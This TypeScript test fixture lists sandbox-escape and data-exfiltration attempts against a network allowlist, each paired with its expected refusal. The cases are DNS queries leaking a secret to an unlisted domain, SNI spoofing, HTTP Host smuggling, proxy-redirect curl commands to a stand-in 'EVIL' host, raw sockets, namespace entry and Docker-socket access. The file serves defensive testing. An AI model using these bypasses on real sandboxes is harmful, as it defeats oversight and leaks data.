import { EVIL_ADDRESS } from "../../../support/internet.ts";

/** One way round the list, from inside. In it OWN stands for a listed name and EVIL for one that is not, both of this way alone; MINE and LOUD are the same in upper case. */
export interface Way {
  readonly id: string;
  readonly way: string;
  /** A function of inside.py, and what it is given. */
  readonly how: readonly [name: string, ...given: unknown[]];
  /** The outcomes that are a refusal. */
  readonly ends: readonly string[];
  /** Whose name the event about it has; nothing where the kernel refuses and nobody else hears of it. */
  readonly told?: "OWN" | "EVIL";
  /** What the listed name resolves to, in place of a public address. */
  readonly resolves?: readonly string[];
}

const NOWHERE = ["ENETUNREACH", "ECONNREFUSED", "cut", "EACCES", "EINVAL", "unknown name"];
const NO_SOCKET = ["EPERM", "EACCES", "EAFNOSUPPORT", "EPROTONOSUPPORT", "ESOCKTNOSUPPORT"];
const NO_RIGHT = ["EPERM", "EACCES", "EROFS"];
const NO_TLS = ["alert", "cut"];

/** Addresses in all their notations, none of which a list can have. */
const LITERALS = [
  ...["93.184.216.34", "93.184.216.34.", "1572395042", "0x5db8d822", "0x5d.0xb8.0xd8.0x22", "0135.0270.0330.042"],
  ...["93.12113954", "93.184.55330", "::ffff:93.184.216.34", "::ffff:5db8:d822", "::93.184.216.34"],
  ...["64:ff9b::5db8:d822", "2002:5db8:d822::1", "2606:2800:220:1:248:1893:25c8:1946", "fe80::1%lo", "[::1]"],
  ...["127.0.0.1", "127.1", "2130706433", "0.0.0.0", "0", "::1", "::", "10.0.0.1", "192.168.0.1"],
  ...["169.254.169.254", "2852039166", "0xa9fea9fe", "::ffff:169.254.169.254", "fd00:ec2::254"],
  ...["224.0.0.1", "255.255.255.255", "198.18.0.1", "198.18.0.53", "198.19.255.254"],
];

/** What a listed name says of itself, and nobody is connected to. */
const FORBIDDEN = [
  ...["127.0.0.1", "127.99.0.1", "0.0.0.0", "10.0.0.1", "172.16.0.1", "192.168.0.1", "100.64.0.1", "169.254.169.254"],
  ...["192.0.0.8", "198.18.0.53", "224.0.0.1", "240.0.0.1", "255.255.255.255"],
  ...["::1", "::", "::ffff:127.0.0.1", "::ffff:169.254.169.254", "::7f00:1", "64:ff9b::a9fe:a9fe", "2002:7f00:1::"],
  ...["fd00::1", "fd00:ec2::254", "fe80::1", "ff02::1"],
];

const SECRET = "c2VjcmV0.EVIL";
const TWO = { counts: "\0\x02\0\0\0\0\0\0", more: "\x04evil\x04test\0\0\x01\0\x01" };
const ABSENT = ["code 3, 0 answers"];
const MALFORMED = ["code 1, 0 answers"];

const get = (host: string, more = "", path = "/x"): string => `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${more}\r\n`;
const post = (headers: string, body: string): string => `POST /x HTTP/1.1\r\nHost: OWN\r\n${headers}\r\n\r\n${body}`;
/** One that may go on, as far as it is one. */
const own = (headers: string, body: string): string => post(headers, body).replace("/x", "/own");
const WEBSOCKET = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";
const HTTP_2 = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const CONNECT = "CONNECT EVIL:443 HTTP/1.1\r\nHost: EVIL:443\r\n\r\n";
const HIDDEN = get("EVIL");

const name = (...names: (string | readonly [kind: number, name: string])[]) =>
  names.map((one) => (typeof one === "string" ? [0, one] : one));

const inAddress = (bytes: string): string => `0208000001000000${bytes}`;
const NEWNET = 0x40000000;
const NEWUSER = 0x10000000;

function rows(
  id: string,
  ends: readonly string[],
  told: Way["told"],
  ways: readonly (readonly [way: string, ...how: Way["how"]])[],
): Way[] {
  return ways.map(([way, ...how]) => ({ id, way, how, ends, ...(told === undefined ? {} : { told }) }));
}

/** All of them. What is refused before it reaches us (by the kernel, in the box) has no event. */
export const WAYS: readonly Way[] = [
  ...LITERALS.flatMap((host) =>
    rows(
      "NET-01",
      NOWHERE,
      undefined,
      [80, 443, 22].map((port) => [`${host} ${port}`, "tcp", host, port, get(host)]),
    ),
  ),
  ...FORBIDDEN.flatMap((address) => [
    ...rows("NET-02", ["403"], "OWN", [[`HTTP to ${address}`, "tcp", "OWN", 80, get("OWN", "Connection: close\r\n")]]),
    ...rows("NET-02", ["cut"], "OWN", [[`TLS to ${address}`, "tls", "OWN", { names: [name("OWN")] }]]),
    ...rows("NET-02", ["cut"], "OWN", [[`bytes to ${address}`, "tcp", "OWN", 22, "secret"]]),
  ]).map((way, index) => ({ ...way, resolves: [FORBIDDEN[Math.floor(index / 3)]!] })),

  ...rows("NET-03", ABSENT, "EVIL", [
    ["a name that is not listed", "question", SECRET],
    ["its text", "question", SECRET, { kind: 16 }],
    ["its bytes", "question", SECRET, { kind: 10 }],
    ["its mail server", "question", SECRET, { kind: 15 }],
    ["its IPv6 address", "question", SECRET, { kind: 28 }],
    ["its encrypted hello", "question", SECRET, { kind: 65 }],
    ["all of it", "question", SECRET, { kind: 255 }],
    ["its zone", "question", SECRET, { kind: 252 }],
    ["over TCP", "question", SECRET, {}, ["198.18.0.53", "tcp"]],
    [
      "of 250 characters",
      "question",
      `${"abc".replace(/./g, (letter) => `${letter.repeat(63)}.`)}${"d".repeat(45)}.EVIL`,
    ],
    ["in upper case", "question", "C2VJCMV0.LOUD"],
    ["without recursion", "question", SECRET, { flags: "\0\0" }],
    [
      "with bytes in EDNS",
      "question",
      SECRET,
      { counts: "\0\x01\0\0\0\0\0\x01", more: "\0\0\x29\x10\0\0\0\0\0\0\x0a\xfd\xe9\0\x06secret" },
    ],
  ]),
  ...rows("NET-03", ABSENT, undefined, [
    ["a listed name with its dots in one label", "question", ["OWN"]],
    ["a listed name below itself", "question", ["OWN", "test"]],
    ["with a NUL in a label", "question", ["OWN\0", "test"]],
    ["a service of an unlisted name", "question", "_secret._tcp.evil.test", { kind: 33 }],
    ["the name of an address", "question", "34.216.184.93.in-addr.arpa", { kind: 12 }],
    ["the root", "question", [], { kind: 2 }],
  ]),
  ...rows("NET-03", ["code 0, 0 answers"], undefined, [
    ["the text of a listed name", "question", "OWN", { kind: 16 }],
    ["the encrypted hello of a listed name", "question", "OWN", { kind: 65 }],
    ["the IPv6 address of a listed name", "question", "OWN", { kind: 28 }],
  ]),
  ...rows("NET-03", MALFORMED, undefined, [
    ["two questions", "question", "OWN", TWO],
    ["two questions over TCP", "question", "OWN", TWO, ["198.18.0.53", "tcp"]],
    ["no question", "dns", "\x12\x34\x01\0\0\0\0\0\0\0\0\0"],
    ["bytes behind the question", "question", "OWN", { more: "secret" }],
    [
      "an answer in the question",
      "question",
      "OWN",
      { counts: "\0\x01\0\x01\0\0\0\0", more: "\xc0\x0c\0\x01\0\x01\0\0\0\0\0\0" },
    ],
    ["a name that points to itself", "dns", "\x12\x34\x01\0\0\x01\0\0\0\0\0\0\xc0\x0c\0\x01\0\x01"],
    ["a name that points round", "dns", "\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x01a\xc0\x0c\0\x01\0\x01"],
    ["a label that has no end", "dns", "\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x3fsecret"],
  ]),
  ...rows("NET-03", ["code 4, 0 answers"], undefined, [
    ["an update", "question", SECRET, { flags: "\x28\0" }],
    ["a notice", "question", SECRET, { flags: "\x20\0" }],
  ]),
  ...rows("NET-03", ["code 5, 0 answers"], undefined, [["of another class", "question", "OWN", { group: 3 }]]),
  ...rows("NET-03", ["timed out"], undefined, [["an answer", "question", SECRET, { flags: "\x81\x80" }]]),
  ...rows(
    "NET-03",
    NOWHERE,
    undefined,
    ["8.8.8.8", "1.1.1.1", "10.0.0.2", "198.18.0.54", "127.0.0.53", "224.0.0.251"].flatMap((server) => [
      [`another name server, ${server}`, "question", SECRET, {}, [server]],
      [`another name server, ${server}, over TCP`, "question", SECRET, {}, [server, "tcp"]],
      [`another name server, ${server}, over TLS`, "tcp", server, 853, "secret"],
    ]),
  ),
  ...rows("NET-03", NOWHERE, undefined, [
    ["names by multicast", "question", "secret.local", {}, ["224.0.0.251", "udp", 5353]],
    ["names by HTTPS at an address", "tls", "1.1.1.1", { names: [name("cloudflare-dns.com")] }],
    ["the name server's other ports", "tcp", "198.18.0.53", 853],
  ]),

  ...rows("NET-04", NO_TLS, "EVIL", [
    ["the name of another host", "tls", "OWN", { names: [name("EVIL")] }],
    ["in upper case", "tls", "OWN", { names: [name("LOUD")] }],
    ["in records of a byte", "tls", "OWN", { names: [name("EVIL")] }, 1],
    ["in three records", "tls", "OWN", { names: [name("EVIL")] }, 40],
    ["byte by byte", "tls", "OWN", { names: [name("EVIL")] }, 16384, 1],
    ["in a real handshake", "secured", "OWN", "EVIL", get("OWN")],
    ["behind 8 KiB of padding", "tls", "OWN", { names: [name("EVIL")], padding: 8000 }],
  ]),
  ...rows("NET-04", NO_TLS, "OWN", [
    ["no name", "tls", "OWN", { names: [] }],
    ["no name in a real handshake", "secured", "OWN", null, get("OWN")],
    ["an empty name", "tls", "OWN", { names: [name("")] }],
    ["no entry", "tls", "OWN", { names: [[]] }],
    ["two names", "tls", "OWN", { names: [name("OWN", "EVIL")] }],
    ["two names, the other first", "tls", "OWN", { names: [name("EVIL", "OWN")] }],
    ["a name of another kind before it", "tls", "OWN", { names: [name([1, "EVIL"], "OWN")] }],
    ["a name of another kind alone", "tls", "OWN", { names: [name([7, "EVIL"])] }],
    ["two extensions with names", "tls", "OWN", { names: [name("OWN"), name("EVIL")] }],
    ["an address for a name", "tls", "OWN", { names: [name(EVIL_ADDRESS)] }],
    ["a number for a name", "tls", "OWN", { names: [name("1572395074")] }],
    ["a dot behind the name", "tls", "OWN", { names: [name("OWN.")] }],
    ["a dot before the name", "tls", "OWN", { names: [name(".OWN")] }],
    ["a NUL in the name", "tls", "OWN", { names: [name("OWN\0.EVIL")] }],
    ["a NUL behind the name", "tls", "OWN", { names: [name("OWN\0")] }],
    ["a port in the name", "tls", "OWN", { names: [name("EVIL:443")] }],
    ["a star for the name", "tls", "OWN", { names: [name("*.test")] }],
    ["a space before the name", "tls", "OWN", { names: [name(" OWN")] }],
    ["a name in UTF-8", "tls", "OWN", { names: [name("evi\xc5\x82.test")] }],
    ["a name of 255 characters", "tls", "OWN", { names: [name(`${"a.".repeat(125)}EVIL`)] }],
    ["an encrypted name alone (ESNI)", "tls", "OWN", { names: [], more: [[0xffce, "00"]] }],
    ["TLS 1.1", "tls", "OWN", { names: [name("OWN")], version: 0x0302 }],
    ["TLS 1.1 by its extension", "tls", "OWN", { names: [name("OWN")], more: [[43, "020302"]] }],
    ["TLS that is longer than it may be", "tls", "OWN", { names: [name("OWN")], padding: 40_000 }],
    ["SSL 2", "tcp", "OWN", 443, "\x80\x2e\x01\0\x02\0\x15\0\0\0\x10\x01\0\x80\x02\0\x80\x03\0\x80"],
    ["data before the hello", "tcp", "OWN", 443, `\x17\x03\x03\0\x06secret${"x".repeat(100)}`],
    ["an empty record", "tcp", "OWN", 443, "\x16\x03\x01\0\0\x16\x03\x01\0\0"],
    ["HTTP at the port of TLS", "tcp", "OWN", 443, get("EVIL")],
    ["HTTP/2 at the port of TLS", "tcp", "OWN", 443, HTTP_2],
    ["a tunnel at the port of TLS", "tcp", "OWN", 443, CONNECT],
    ["SOCKS 4 at the port of TLS", "tcp", "OWN", 443, "\x04\x01\x01\xbb\x5d\xb8\xd8\x42\0"],
    ["SOCKS 5 at the port of TLS", "tcp", "OWN", 443, "\x05\x01\0"],
    ["an address of PROXY at the port of TLS", "tcp", "OWN", 443, `PROXY TCP4 198.18.0.1 ${EVIL_ADDRESS} 1 443\r\n`],
    ["bytes at the port of TLS", "tcp", "OWN", 443, "SSH-2.0-any\r\n"],
  ]),
  ...rows("NET-04", ["ECONNREFUSED"], undefined, [
    ["a port that is not listed", "tcp", "OWN", 444],
    ["the port of a proxy", "tcp", "OWN", 3128, CONNECT],
    ["the port of mail", "tcp", "OWN", 25],
  ]),

  ...rows("NET-05", ["403"], "EVIL", [
    ["another host", "tcp", "OWN", 80, get("EVIL")],
    ["another host with its port", "tcp", "OWN", 80, get("EVIL:80")],
    ["another host with a dot", "tcp", "OWN", 80, get("EVIL.")],
    ["another host byte by byte", "tcp", "OWN", 80, get("EVIL"), 1],
    ["a WebSocket to another host", "tcp", "OWN", 80, get("EVIL", WEBSOCKET)],
    [
      "HTTP/2 in clear to another host",
      "tcp",
      "OWN",
      80,
      get(
        "EVIL",
        "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n",
      ),
    ],
    ["HTTP/1.0 to another host", "tcp", "OWN", 80, "GET /x HTTP/1.0\r\nHost: EVIL\r\n\r\n"],
    [
      "expecting to go on to another host",
      "tcp",
      "OWN",
      80,
      "POST /x HTTP/1.1\r\nHost: EVIL\r\nExpect: 100-continue\r\nContent-Length: 6\r\n\r\nsecret",
    ],
  ]),
  ...rows("NET-05", ["200 403"], "EVIL", [
    ["another host behind its own", "tcp", "OWN", 80, get("OWN", "", "/own") + HIDDEN],
    ["another host behind a body", "tcp", "OWN", 80, own("Content-Length: 6", "secret") + HIDDEN],
    [
      "another host behind chunks",
      "tcp",
      "OWN",
      80,
      own("Transfer-Encoding: chunked", "6\r\nsecret\r\n0\r\n\r\n") + HIDDEN,
    ],
    [
      "another host behind trailers",
      "tcp",
      "OWN",
      80,
      own("Transfer-Encoding: chunked", "0\r\nHost: EVIL\r\n\r\n") + HIDDEN,
    ],
  ]),
  ...rows("NET-05", ["421"], undefined, [["another listed host", "tcp", "OWN", 80, get("listed.test")]]),
  ...rows("NET-05", ["400"], "OWN", [
    ["two hosts", "tcp", "OWN", 80, "GET /x HTTP/1.1\r\nHost: OWN\r\nHost: EVIL\r\n\r\n"],
    ["two hosts, the other first", "tcp", "OWN", 80, "GET /x HTTP/1.1\r\nHost: EVIL\r\nHost: OWN\r\n\r\n"],
    ["no host", "tcp", "OWN", 80, "GET /x HTTP/1.1\r\nAccept: */*\r\n\r\n"],
    ["an empty host", "tcp", "OWN", 80, get("")],
    ["a list of hosts", "tcp", "OWN", 80, get("OWN, EVIL")],
    ["a user before the host", "tcp", "OWN", 80, get("OWN@EVIL")],
    ["its host with a dot", "tcp", "OWN", 80, get("OWN.")],
    ["its host with another port", "tcp", "OWN", 80, get("OWN:22")],
    ["a host with a NUL", "tcp", "OWN", 80, get("OWN\0.EVIL")],
    ["a host of 255 characters", "tcp", "OWN", 80, get(`${"a.".repeat(125)}EVIL`)],
    ["an address as the host", "tcp", "OWN", 80, get(EVIL_ADDRESS)],
    ["the metadata service as the host", "tcp", "OWN", 80, get("169.254.169.254", "Metadata-Flavor: Google\r\n")],
    ["this machine as the host", "tcp", "OWN", 80, get("localhost")],
    ["the proxy itself as the host", "tcp", "OWN", 80, get("198.18.0.1", "", "/admin")],
    ["a folded host", "tcp", "OWN", 80, "GET /x HTTP/1.1\r\nHost: OWN\r\n EVIL\r\n\r\n"],
    ["a space before the colon", "tcp", "OWN", 80, "GET /x HTTP/1.1\r\nHost : EVIL\r\nHost: OWN\r\n\r\n"],
    ["a space before the header", "tcp", "OWN", 80, "GET /x HTTP/1.1\r\n Host: EVIL\r\nHost: OWN\r\n\r\n"],
    ["an absolute target", "tcp", "OWN", 80, get("OWN").replace("/x", "http://EVIL/x")],
    ["an absolute target of its own", "tcp", "OWN", 80, get("OWN").replace("/x", "http://OWN/x")],
    ["an absolute target without a scheme", "tcp", "OWN", 80, get("OWN").replace("/x", "EVIL:80/x")],
    ["an absolute target of TLS", "tcp", "OWN", 80, get("OWN").replace("/x", "https://EVIL/x")],
    ["a star for the target", "tcp", "OWN", 80, get("OWN").replace("GET /x", "OPTIONS *")],
    ["a space in the target", "tcp", "OWN", 80, get("OWN", "", "/x http://EVIL/")],
    ["two lengths", "tcp", "OWN", 80, post("Content-Length: 6\r\nContent-Length: 0", HIDDEN)],
    ["a list of lengths", "tcp", "OWN", 80, post("Content-Length: 6, 0", HIDDEN)],
    ["a length with a sign", "tcp", "OWN", 80, post("Content-Length: +6", HIDDEN)],
    ["a length in hexadecimal", "tcp", "OWN", 80, post("Content-Length: 0x6", HIDDEN)],
    ["a length below nothing", "tcp", "OWN", 80, post("Content-Length: -6", HIDDEN)],
    [
      "a length and chunks",
      "tcp",
      "OWN",
      80,
      post("Content-Length: 5\r\nTransfer-Encoding: chunked", `0\r\n\r\n${HIDDEN}`),
    ],
    [
      "chunks and a length",
      "tcp",
      "OWN",
      80,
      post("Transfer-Encoding: chunked\r\nContent-Length: 5", `0\r\n\r\n${HIDDEN}`),
    ],
    [
      "chunks twice",
      "tcp",
      "OWN",
      80,
      post("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", `0\r\n\r\n${HIDDEN}`),
    ],
    ["chunks of another coding", "tcp", "OWN", 80, post("Transfer-Encoding: chunked, identity", `0\r\n\r\n${HIDDEN}`)],
    ["chunks by a hidden character", "tcp", "OWN", 80, post("Transfer-Encoding:\x0bchunked", `0\r\n\r\n${HIDDEN}`)],
    ["chunks by a space before the colon", "tcp", "OWN", 80, post("Transfer-Encoding : chunked", `0\r\n\r\n${HIDDEN}`)],
    ["a bare line feed", "tcp", "OWN", 80, "GET /x HTTP/1.1\nHost: EVIL\n\n"],
    ["a bare carriage return", "tcp", "OWN", 80, "GET /x HTTP/1.1\r\nHost: OWN\rHost: EVIL\r\n\r\n"],
    ["a folded header", "tcp", "OWN", 80, get("OWN", "X-One: a\r\n Host: EVIL\r\n")],
    ["a NUL in a header", "tcp", "OWN", 80, get("OWN", "X-One: a\0b\r\n")],
    ["HTTP/0.9", "tcp", "OWN", 80, "GET /x\r\n\r\n"],
    ["HTTP/2 that is known before", "tcp", "OWN", 80, HTTP_2],
    ["HTTP/3.0 by its name", "tcp", "OWN", 80, get("EVIL").replace("HTTP/1.1", "HTTP/3.0")],
    ["TLS at the port of HTTP", "tls", "OWN", { names: [name("EVIL")] }, 16384, 0, 80],
    ["SOCKS 4 at the port of HTTP", "tcp", "OWN", 80, "\x04\x01\0\x50\x5d\xb8\xd8\x42\0"],
    ["SOCKS 5 at the port of HTTP", "tcp", "OWN", 80, "\x05\x01\0"],
    ["an address of PROXY", "tcp", "OWN", 80, `PROXY TCP4 198.18.0.1 ${EVIL_ADDRESS} 1 80\r\n${get("OWN")}`],
  ]),
  ...rows("NET-05", ["403"], "OWN", [
    ["a tunnel", "tcp", "OWN", 80, CONNECT],
    ["a tunnel to the metadata service", "tcp", "OWN", 80, CONNECT.replaceAll("EVIL:443", "169.254.169.254:80")],
    ["a tunnel to itself", "tcp", "OWN", 80, CONNECT.replaceAll("EVIL", "OWN")],
    ["a trace", "tcp", "OWN", 80, get("OWN").replace("GET", "TRACE")],
  ]),
  ...rows("NET-05", ["431"], "OWN", [
    ["an endless header", "tcp", "OWN", 80, get("OWN", `X: ${"y".repeat(70_000)}\r\n`)],
  ]),
  ...rows("NET-05", ["200 400", "400", "cut"], "OWN", [
    [
      "a chunk whose length has letters behind it",
      "tcp",
      "OWN",
      80,
      own("Transfer-Encoding: chunked", `0x\r\n\r\n${HIDDEN}`),
    ],
    [
      "a chunk that is longer than its length",
      "tcp",
      "OWN",
      80,
      own("Transfer-Encoding: chunked", `1\r\nsecret\r\n0\r\n\r\n${HIDDEN}`),
    ],
    [
      "a chunk longer than numbers are",
      "tcp",
      "OWN",
      80,
      own("Transfer-Encoding: chunked", `ffffffffffffffffff\r\n${HIDDEN}`),
    ],
    [
      "chunks that end in bare line feeds",
      "tcp",
      "OWN",
      80,
      own("Transfer-Encoding: chunked", `6\nsecret\n0\n\n${HIDDEN}`),
    ],
  ]),

  ...rows("NET-05", ["56", "97", "35"], "OWN", [
    ["a listed host as the proxy of programs", "sh", "HTTPS_PROXY=http://OWN:80 curl -s https://EVIL/x"],
    ["and as their SOCKS", "sh", "ALL_PROXY=socks5h://OWN:80 curl -s https://EVIL/x"],
  ]),
  ...rows("NET-05", ["0 403"], "EVIL", [
    [
      "a listed host as the proxy of plain HTTP",
      "sh",
      "http_proxy=http://OWN:80 curl -s -o /dev/null -w '%{http_code}' http://EVIL/x",
    ],
  ]),
  ...rows("NET-05", ["35"], "EVIL", [
    ["the address of a listed host for another name", "sh", "curl -sk --connect-to EVIL:443:OWN:443 https://EVIL/x"],
  ]),
  ...rows("NET-05", ["6"], "EVIL", [
    ["a listed host that leads on to another", "sh", "curl -sL 'http://OWN/redirect?to=http://EVIL/x'"],
  ]),
  ...rows("NET-05", ["128"], "EVIL", [
    ["another host in git's settings", "sh", "git -c url.https://EVIL/.insteadOf=https://OWN/ ls-remote https://OWN/x"],
  ]),

  ...rows("NET-06", NO_SOCKET, undefined, [
    ["raw ICMP", "made", 2, 3, 1],
    ["raw ICMP of IPv6", "made", 10, 3, 58],
    ["raw TCP", "made", 2, 3, 6],
    ["raw IP", "made", 2, 3, 255],
    ["packets", "made", 17, 3, 0],
    ["packets without a head", "made", 17, 2, 0],
    ["vsock", "made", 40, 1, 0],
    ["vsock's datagrams", "made", 40, 2, 0],
    ["SCTP", "made", 2, 1, 132],
    ["DCCP", "made", 2, 6, 33],
    ["Bluetooth", "made", 31, 3, 0],
    ["CAN", "made", 29, 3, 1],
    ["TIPC", "made", 30, 1, 0],
    ["RDS", "made", 21, 5, 0],
    ["XDP", "made", 44, 3, 0],
    ["the kernel's keys", "made", 15, 3, 2],
    ["the kernel's ciphers", "made", 38, 5, 0],
    ["netlink's filters", "made", 16, 3, 12],
    ["netlink's transforms", "made", 16, 3, 6],
    ["netlink's generic", "made", 16, 3, 16],
    ["netlink's events of devices", "made", 16, 3, 15],
    ["netlink's audit", "made", 16, 3, 9],
  ]),
  ...rows("NET-06", [...NOWHERE, "timed out", "ENOPROTOOPT", "EPERM"], undefined, [
    ["a datagram", "udp", "93.184.216.34", 443],
    ["QUIC to a listed host", "udp", "OWN", 443],
    ["QUIC to an address", "udp", "1.1.1.1", 443],
    ["a datagram of IPv6", "udp", "2606:2800:220:1:248:1893:25c8:1946", 443, "AF_INET6"],
    ["a datagram of mapped IPv6", "udp", "::ffff:93.184.216.34", 443, "AF_INET6"],
    ["multicast", "udp", "239.1.2.3", 5000],
    ["multicast of IPv6", "udp", "ff02::1%lo", 5000, "AF_INET6"],
    ["broadcast", "udp", "255.255.255.255", 67, "AF_INET", [[1, 6, 1]]],
    ["time", "udp", "162.159.200.1", 123],
    ["the other port of our names", "udp", "198.18.0.53", 5353],
    ["a device", "optioned", 1, 25, "lo"],
    ["a mark", "optioned", 1, 36, 1],
    ["transparent", "optioned", 0, 19, 1],
    ["a free bind", "optioned", 0, 15, 1],
    ["a route in the packet", "optioned", 0, 4, "\x83\x07\x04\x5d\xb8\xd8\x22\0"],
    ["data in the first packet", "fast_open", "93.184.216.34", 443],
  ]),
  ...rows("NET-06", ["EACCES"], undefined, [
    ["being the name server", "bound", "0.0.0.0", 53],
    ["being it at its address", "bound", "198.18.0.53", 53],
    ["listening at the port of TLS", "bound", "0.0.0.0", 443, "AF_INET", 2],
    ["and sharing it", "bound", "198.18.0.9", 443, "AF_INET", 15],
    ["and by IPv6", "bound", "::", 443, "AF_INET6", 2],
    ["listening at the port of HTTP", "bound", "0.0.0.0", 80, "AF_INET", 15],
  ]),
  ...rows("NET-06", NO_RIGHT, undefined, [
    ["another address", "netlink", 20, 0x600, inAddress("080002000a090807")],
    ["the name server's address away", "netlink", 21, 0, inAddress("08000200c6120001")],
    ["a route to everywhere", "netlink", 24, 0x600, "0200000000fe0300010000000800040001000000"],
    ["a neighbour", "netlink", 28, 0x600, "020000000100000080000001080001000a090807"],
    ["a rule", "netlink", 32, 0x600, "0200000000fe000100000000"],
    ["the device down", "netlink", 19, 0, "00000000010000000000000001000000"],
    ["another device", "netlink", 16, 0x600, "00000000000000000000000000000000100012000900010064756d6d79000000"],
    ["a network of its own", "unshared", NEWNET],
    ["and a user of its own (unshare -rn)", "unshared", NEWUSER + NEWNET],
    ["a user of its own", "unshared", NEWUSER],
    ["the network of its first process", "entered", "/proc/1/ns/net"],
    ["io_uring, past the filter of sockets", "called", 425, 8, 0],
    ["descriptors of its first process", "stolen", 1],
    ["forwarding", "written", "/proc/sys/net/ipv4/ip_forward", "1"],
    ["ports below 1024", "written", "/proc/sys/net/ipv4/ip_unprivileged_port_start", "0"],
    ["another name server", "written", "/etc/resolv.conf", "nameserver 8.8.8.8\n"],
  ]),
  ...rows("NET-06", ["ENOENT", "ECONNREFUSED", "EACCES"], undefined, [
    ["an abstract socket of the host", "unix", "@ABSTRACT"],
    ["a socket of the host in the workspace", "unix", "/workspace/outside.sock"],
    ["Docker", "unix", "/var/run/docker.sock"],
    ["containerd", "unix", "/run/containerd/containerd.sock"],
    ["the message bus", "unix", "/run/dbus/system_bus_socket"],
    ["the host's resolver", "unix", "/run/systemd/resolve/io.systemd.Resolve"],
    ["the host's cache of names", "unix", "/var/run/nscd/socket"],
    ["the host's journal", "unix", "/run/systemd/journal/stdout"],
    ["the host's screen", "unix", "@/tmp/.X11-unix/X0"],
  ]),
];

/** The same by those who may. */
const ALLOWED: readonly Way[] = [
  ...rows("NET-05", ["200"], undefined, [["a request", "tcp", "OWN", 80, get("OWN", "Connection: close\r\n", "/own")]]),
  ...rows("NET-04", ["200"], undefined, [
    ["a handshake", "secured", "OWN", "OWN", get("OWN", "Connection: close\r\n", "/own")],
  ]),
  ...rows("NET-03", ["code 0, 1 answers"], undefined, [["a question", "question", "OWN"]]),
  ...rows("NET-03", ["code 0, 1 answers"], undefined, [["a question in upper case", "question", "MINE"]]),
];

export const WITH_ALLOWED: readonly Way[] = [...WAYS, ...ALLOWED];
